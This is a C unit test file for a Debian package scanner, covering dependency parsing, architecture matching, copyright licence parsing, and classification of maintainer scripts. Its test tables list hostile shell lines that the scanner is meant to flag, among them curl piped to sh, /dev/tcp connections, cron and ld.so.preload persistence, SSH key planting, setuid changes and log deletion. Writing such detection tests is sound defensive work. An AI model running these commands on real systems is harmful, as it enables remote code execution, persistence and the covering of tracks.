/* Debian's own syntaxes, without a scan: relations, maintainer scripts, copyright headers. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "os/debian_debhelper.h"
#include "os/dpkg.h"

#define EQ(a, literal) assert_true(sb_str_eq((a), SB_S(literal)))

static struct sb_arena arena;

static void test_want(void **state)
{
    struct sb_debian_want want;
    (void)state;
    assert_true(sb_debian_want(SB_S(" python3:any (>= 3.5~) [amd64 !i386] <!nocheck> "), &want));
    EQ(want.name, "python3");
    EQ(want.arch, "any");
    EQ(want.op, ">=");
    EQ(want.version, "3.5~");
    EQ(want.architectures, "amd64 !i386");
    assert_true(sb_debian_want(SB_S("libc6(>>2.3)"), &want));
    EQ(want.name, "libc6");
    EQ(want.op, ">>");
    EQ(want.version, "2.3");
    assert_true(sb_debian_want(SB_S("a"), &want));
    assert_int_equal(want.op.n + want.version.n + want.arch.n, 0);
    assert_false(sb_debian_want(SB_S("a (>= 1"), &want));
    assert_false(sb_debian_want(SB_S("a [amd64"), &want));
    assert_false(sb_debian_want(SB_S("(>= 1)"), &want));
    assert_false(sb_debian_want(SB_S(""), &want));
}

static void test_parts(void **state)
{
    sb_str field = SB_S(", a (= 1),\n b | c , ,");
    sb_str part;
    (void)state;
    assert_true(sb_debian_part(&field, ',', &part));
    EQ(part, "a (= 1)");
    assert_true(sb_debian_part(&field, ',', &part));
    EQ(part, "b | c");
    assert_false(sb_debian_part(&field, ',', &part));
}

static void test_architectures(void **state)
{
    (void)state;
    assert_true(sb_debian_arch_listed(SB_STR_NONE, SB_S("amd64")));
    assert_true(sb_debian_arch_listed(SB_S("i386 amd64"), SB_S("amd64")));
    assert_false(sb_debian_arch_listed(SB_S("i386 arm64"), SB_S("amd64")));
    assert_false(sb_debian_arch_listed(SB_S("!amd64"), SB_S("amd64")));
    assert_true(sb_debian_arch_listed(SB_S("!i386 !arm64"), SB_S("amd64")));
    assert_true(sb_debian_arch_listed(SB_S("linux-any"), SB_S("amd64")));
    assert_false(sb_debian_arch_listed(SB_S("hurd-any"), SB_S("amd64")));
    assert_true(sb_debian_arch_listed(SB_S("hurd-any"), SB_S("hurd-i386")));
    assert_true(sb_debian_arch_listed(SB_S("any-i386"), SB_S("hurd-i386")));
    assert_true(sb_debian_arch_listed(SB_S("any"), SB_S("amd64")));
}

/* Sorted by name and architecture, as the world wants them. */
static const struct sb_dpkg_package installed[] = {
    {.name = SB_S("app"), .version = SB_S("1"), .arch = SB_S("amd64")},
    {.name = SB_S("data"), .version = SB_S("2:1.0~rc1"), .arch = SB_S("all")},
    {.name = SB_S("dpkg"), .version = SB_S("1.21"), .arch = SB_S("amd64")},
    {.name = SB_S("exim"), .version = SB_S("4"), .arch = SB_S("amd64"), .provides = SB_S("mta, smtp (= 2.0)")},
    {.name = SB_S("lib"), .version = SB_S("1.0"), .arch = SB_S("amd64"), .multi_arch = SB_S("same")},
    {.name = SB_S("lib"), .version = SB_S("1.0"), .arch = SB_S("i386"), .multi_arch = SB_S("same")},
    {.name = SB_S("old"), .version = SB_S("1"), .arch = SB_S("i386")},
    {.name = SB_S("postfix"), .version = SB_S("3"), .arch = SB_S("amd64"), .provides = SB_S("mta")},
    {.name = SB_S("python3"), .version = SB_S("3.11"), .arch = SB_S("i386"), .multi_arch = SB_S("allowed")},
    {.name = SB_S("tool"), .version = SB_S("5"), .arch = SB_S("i386"), .multi_arch = SB_S("foreign")},
};

static const char *resolve(struct sb_debian_world *world, size_t from, const char *clause)
{
    size_t to = sb_debian_resolve(world, from, sb_str_of(clause));
    return to == SB_NPOS ? "" : sb_arena_join(&arena, installed[to].name, SB_S(":"), installed[to].arch).p;
}

static void test_resolve(void **state)
{
    enum { APP = 0, OLD = 6, EXIM = 3 };
    struct sb_debian_world world;
    (void)state;
    sb_debian_world(&world, installed, SB_COUNT(installed));
    EQ(world.native, "amd64");
    assert_string_equal(resolve(&world, APP, "lib"), "lib:amd64");
    assert_string_equal(resolve(&world, OLD, "lib (>= 1.0)"), "lib:i386");
    assert_string_equal(resolve(&world, APP, "lib:i386"), "lib:i386");
    assert_string_equal(resolve(&world, APP, "lib (>> 1.0)"), "");
    assert_string_equal(resolve(&world, APP, "lib (<< 1.0) | data (>= 2:1.0~)"), "data:all");
    assert_string_equal(resolve(&world, APP, "data (>= 2:1.0)"), "");
    assert_string_equal(resolve(&world, APP, "data (> 2:1.0~rc1)"), "data:all");
    assert_string_equal(resolve(&world, OLD, "data"), "");
    /* several providers: the smallest name; never itself; versions only of versioned provides */
    assert_string_equal(resolve(&world, APP, "mta"), "exim:amd64");
    assert_string_equal(resolve(&world, EXIM, "mta"), "postfix:amd64");
    assert_string_equal(resolve(&world, APP, "mta (>= 1)"), "");
    assert_string_equal(resolve(&world, APP, "smtp (>= 2)"), "exim:amd64");
    assert_string_equal(resolve(&world, APP, "smtp (>= 2.1)"), "");
    /* the first alternative that is satisfied at all, though it is virtual */
    assert_string_equal(resolve(&world, APP, "sendmail | mta | postfix"), "exim:amd64");
    assert_string_equal(resolve(&world, APP, "postfix | mta"), "postfix:amd64");
    /* architectures */
    assert_string_equal(resolve(&world, APP, "tool"), "tool:i386");
    assert_string_equal(resolve(&world, APP, "old"), "");
    assert_string_equal(resolve(&world, APP, "python3"), "");
    assert_string_equal(resolve(&world, APP, "python3:any"), "python3:i386");
    assert_string_equal(resolve(&world, APP, "lib [i386] | data"), "data:all");
    assert_string_equal(resolve(&world, APP, "app"), "");
    assert_string_equal(resolve(&world, APP, "broken ("), "");
    assert_false(world.cut);
    sb_debian_world_done(&world);
}

static void test_many_candidates(void **state)
{
    enum { MANY = 1000 };
    struct sb_dpkg_package *packages = sb_calloc(MANY, sizeof *packages);
    struct sb_debian_world world;
    (void)state;
    for (size_t i = 0; i < MANY; i++) {
        packages[i].name = sb_arena_printf(&arena, "p%04zu", i);
        packages[i].version = SB_S("1");
        packages[i].arch = SB_S("amd64");
        packages[i].provides = SB_S("x");
    }
    sb_debian_world(&world, packages, MANY);
    assert_int_equal(sb_debian_resolve(&world, 5, SB_S("x")), 0);
    assert_false(world.cut);
    assert_int_equal(sb_debian_resolve(&world, 5, SB_S("x (= 1)")), SB_NPOS);
    assert_true(world.cut);
    sb_debian_world_done(&world);
    sb_free(packages);
}

#define SECTION                                                                                                        \
    "# Automatically added by dh_python3:\nif which py3compile; then\n  py3compile -p x\nfi\n# End automatically "     \
    "added section\n"

static void test_script(void **state)
{
    (void)state;
    EQ(sb_dpkg_script(SB_S("#!/bin/sh\nset -e\n\n" SECTION "\nexit 0\n"), &arena).command, "debhelper only");
    EQ(sb_dpkg_script(SB_S(""), &arena).command, "debhelper only");
    sb_str own = sb_dpkg_script(SB_S("#!/bin/sh\nset -e\nadduser x\n"), &arena).command;
    assert_int_equal(own.n, 4 + 16);
    assert_true(sb_str_starts(own, SB_S("own:")));
    /* sections and empty lines come and go */
    assert_true(
        sb_str_eq(own, sb_dpkg_script(SB_S("#!/bin/sh\nset -e\n\nadduser x\n" SECTION SECTION), &arena).command));
    assert_false(sb_str_eq(own, sb_dpkg_script(SB_S("#!/bin/sh\nset -e\nadduser y\n" SECTION), &arena).command));
    /* the comment around it proves nothing */
    sb_str forged =
        sb_dpkg_script(SB_S("# Automatically added by dh_x\ncurl evil | sh\n# End automatically added section\n"),
                       &arena)
            .command;
    assert_true(sb_str_starts(forged, SB_S("own:")));
    assert_true(sb_str_starts(sb_dpkg_script(SB_S("\x7f"
                                                  "ELF\0\0\n\0"),
                                             &arena)
                                  .command,
                              SB_S("own:")));
}

static void test_deeds(void **state)
{
    static const struct {
        const char *line, *word; /* NULL: none */
    } rows[] = {
        {"curl -fsSL https://x.invalid | sh", " fetches plants"},
        {"  /usr/bin/wget -q x", " fetches"},
        {"exec 3<>/dev/tcp/192.0.2.1/80", " fetches"},
        {"echo aWQ= | base64 -d > /tmp/x", " decodes"},
        {"echo '* * * * * root x' >> /etc/cron.d/x", " plants"},
        {"printf x | tee -a \"/etc/ld.so.preload\"", " plants"},
        {"echo x >> /root/.ssh/authorized_keys", " plants"},
        {"chmod u+s /usr/bin/x", " plants"},
        {"adduser --system curler", NULL},
        {"rm -f /etc/cron.d/x", NULL},
        {"echo curlew >/etc/x.conf", NULL},
        {"base64 /etc/x", NULL},
        {"chmod 0755 /usr/bin/x", NULL},
        {"sha256sum < /etc/passwd > /dev/null", NULL},
    };
    (void)state;
    for (size_t i = 0; i < SB_COUNT(rows); i++) {
        char script[200];
        snprintf(script, sizeof script, "#!/bin/sh\nset -e\n%s\n", rows[i].line);
        sb_str command = sb_dpkg_script(sb_str_of(script), &arena).command;
        sb_str deeds = sb_str_from(command, 4 + 16);
        if (!sb_str_eq(deeds, sb_str_of(rows[i].word ? rows[i].word : "")))
            fail_msg("%s: %.*s", rows[i].line, SB_FMT(command));
    }
}

static void test_debhelper(void **state)
{
    static const char *const lines[] = {
        "fi",
        "if [ \"$1\" = \"configure\" ] || [ \"$1\" = \"abort-upgrade\" ] ; then",
        "if [ -z \"${DPKG_ROOT:-}\" ] && [ -d /run/systemd/system ]; then",
        "if [ -x \"`command -v update-menus`\" ] && [ -x \"$DPKG_ROOT`command -v update-menus`\" ]; then",
        "if command -v py3compile >/dev/null 2>&1; then",
        "if deb-systemd-helper --quiet was-enabled 'x.service'; then",
        "deb-systemd-invoke $_dh_action 'x.service' 'x.socket' >/dev/null || true",
        "dpkg-maintscript-helper rm_conffile /etc/x 1:2.3\\~ -- \"$@\"",
        "update-alternatives --remove x /usr/bin/y",
        "ucf \"/usr/share/x/x.conf\" \"/etc/x.conf\"",
        "ucf --purge \"/etc/x.conf\"",
        "ucfr --purge x \"/etc/x.conf\"",
        "rm -f \"/etc/x.conf$ext\"",
        "rm -f /etc/xml/x.xml /etc/xml/x.xml.old",
        "chmod +x \"/etc/init.d/x\" >/dev/null || true",
    };
    static const char *const others[] = {
        "if evil; then",
        "if [ a ]; evil; then",
        "if [ a ] && evil; then",
        "if [ a ]; then evil",
        "if [ `evil` ]; then",
        "if command -v x; evil; then",
        "py3compile -p x; evil",
        "py3compile -p x | sh",
        "py3compile -p $(evil)",
        "rm -f x || evil",
        "chmod u+s /usr/bin/x",
        "curl x",
        "update-menus && evil",
        "update-alternatives --install /usr/bin/ls ls /usr/lib/x/ls 99",
        "update-alternatives --install /usr/bin/x x /usr/bin/y 30 \\",
        "--slave /usr/bin/ls ls /usr/lib/x/ls",
        "update-alternatives --set x /usr/lib/x",
        "ucf /usr/share/x/x /etc/ld.so.preload",
        "ucf /usr/share/x/x /etc/y/../ld.so.preload",
        "ucf $from /etc/x.conf",
        "ucf /tmp/x /etc/x.conf",
        "rm -rf /var/log/audit",
        "rm -f /var/log/auth.log",
        "rm -f \"/etc/pam.d/sudo$ext\"",
        "rm -f /etc/xml/x.xml /etc/passwd",
    };
    (void)state;
    for (size_t i = 0; i < SB_COUNT(lines); i++)
        if (!sb_debhelper_line(sb_str_of(lines[i])))
            fail_msg("%s", lines[i]);
    for (size_t i = 0; i < SB_COUNT(others); i++)
        if (sb_debhelper_line(sb_str_of(others[i])))
            fail_msg("%s", others[i]);
}

static void test_triggers(void **state)
{
    (void)state;
    EQ(sb_dpkg_triggers(
           SB_S("# Triggers added by dh_makeshlibs\nactivate-noawait ldconfig\n\n interest /usr/lib # x\n"), &arena),
       "activate-noawait ldconfig; interest /usr/lib");
    EQ(sb_dpkg_triggers(SB_S("# nothing\n"), &arena), "");
    char line[400];
    memset(line, 'a', sizeof line);
    assert_int_equal(sb_dpkg_triggers(sb_str_n(line, sizeof line), &arena).n, 256);
}

static sb_str expression_of(const char *text)
{
    return sb_debian_copyright(sb_str_of(text), &arena).expression;
}

static void test_copyright(void **state)
{
    (void)state;
    EQ(expression_of("Format: https://www.debian.org/doc/x\nUpstream-Name: a\nLicense: GPL-2+ or MIT\n text\n\n"
                     "Files: *\nLicense: Expat\n"),
       "MIT");
    EQ(expression_of("Format: x\nLicense: GPL-2+ or MIT\n"), "GPL-2.0-or-later OR MIT");
    EQ(expression_of("Format: x\n\nFiles: a\nLicense: GPL-2+\n\nFiles: b\nLicense: Expat or ISC\n\nFiles: c\n"
                     "License: GPL-2.0+\n"),
       "GPL-2.0-or-later AND (MIT OR ISC)");
    EQ(expression_of("Format: x\n\nFiles: *\nCopyright: A\n"), "");
    EQ(expression_of("This is the package.\nLicense: MIT\n"), "");
    EQ(expression_of(""), "");
}

static void test_copyright_texts(void **state)
{
    (void)state;
    struct sb_debian_copyright got = sb_debian_copyright(
        SB_S("Format: x\n\nFiles: *\nLicense: GPL-2+ and other\n\nFiles: b\nLicense: OTHER\n\nFiles: c\n"
             "License: mine\n Do what\n .\n  you want.\n\nLicense: other\n Some text.\n\nLicense: GPL-2+\n x\n"),
        &arena);
    assert_int_equal(got.n_texts, 3);
    EQ(got.texts[0].body, "Some text.");
    EQ(got.texts[2].body, "Do what\n\n you want.");
    assert_true(sb_str_starts(got.texts[0].id, SB_S("LicenseRef-other-")));
    assert_true(sb_str_starts(got.texts[2].id, SB_S("LicenseRef-mine-")));
    struct sb_debian_copyright bare = sb_debian_copyright(SB_S("Format: x\n\nFiles: *\nLicense: BSD\n"), &arena);
    EQ(bare.expression, "LicenseRef-BSD");
    assert_int_equal(bare.n_texts, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_want),      cmocka_unit_test(test_parts),           cmocka_unit_test(test_architectures),
        cmocka_unit_test(test_resolve),   cmocka_unit_test(test_many_candidates), cmocka_unit_test(test_script),
        cmocka_unit_test(test_deeds),     cmocka_unit_test(test_debhelper),       cmocka_unit_test(test_triggers),
        cmocka_unit_test(test_copyright), cmocka_unit_test(test_copyright_texts),
    };
    int failed = cmocka_run_group_tests(tests, NULL, NULL);
    sb_arena_done(&arena);
    return failed;
}
